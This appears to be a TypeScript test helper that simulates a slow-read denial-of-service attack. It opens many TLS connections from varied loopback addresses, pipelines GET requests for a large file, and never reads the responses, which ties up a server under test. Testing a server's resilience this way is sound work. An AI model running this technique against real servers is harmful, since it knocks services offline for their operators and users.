/**
 * Process of clients that request large files and never read: `unread-pages.ts URL PATH CONNECTIONS ADDRESSES`.
 * It prints `open` when all connections have sent their requests, and keeps running until it is killed.
 */
import { constants, setPriority } from 'node:os';
import { connect } from 'node:tls';

const [url = '', path = '', connections = '', addresses = ''] = process.argv.slice(2);
const { hostname: host, port } = new URL(url);
/** As many as a connection has in progress. */
const REQUESTS = `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(4);
const OPENED_TOGETHER = 50;

// real attackers have processors of their own
setPriority(constants.priority.PRIORITY_LOW);
setInterval(() => {}, 1000); // connections that are not read do not keep the process running
for (let i = 0; i < Number(connections); i += OPENED_TOGETHER) {
  const count = Math.min(OPENED_TOGETHER, Number(connections) - i);
  await Promise.all(Array.from({ length: count }, (_, n) => open((i + n) % Number(addresses))));
}
console.log('open');

function open(i: number): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const target = { host, port: Number(port), localAddress: `127.2.${i >> 7}.${1 + (i & 127)}` };
  const socket = connect({ ...target, rejectUnauthorized: false });
  socket.on('error', () => socket.destroy()).on('close', () => resolve());
  socket.once('secureConnect', () => socket.pause().write(REQUESTS, () => resolve()));
  return promise;
}
